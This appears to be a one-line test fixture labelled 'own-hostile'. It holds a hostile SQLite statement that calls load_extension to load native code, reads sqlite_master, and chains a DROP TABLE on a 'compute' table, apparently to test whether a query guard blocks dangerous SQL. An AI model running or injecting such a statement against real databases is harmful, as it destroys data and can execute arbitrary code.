-- id: own-hostile
-- title: Own
SELECT load_extension('x'), address FROM sqlite_master; DROP TABLE compute; -- 
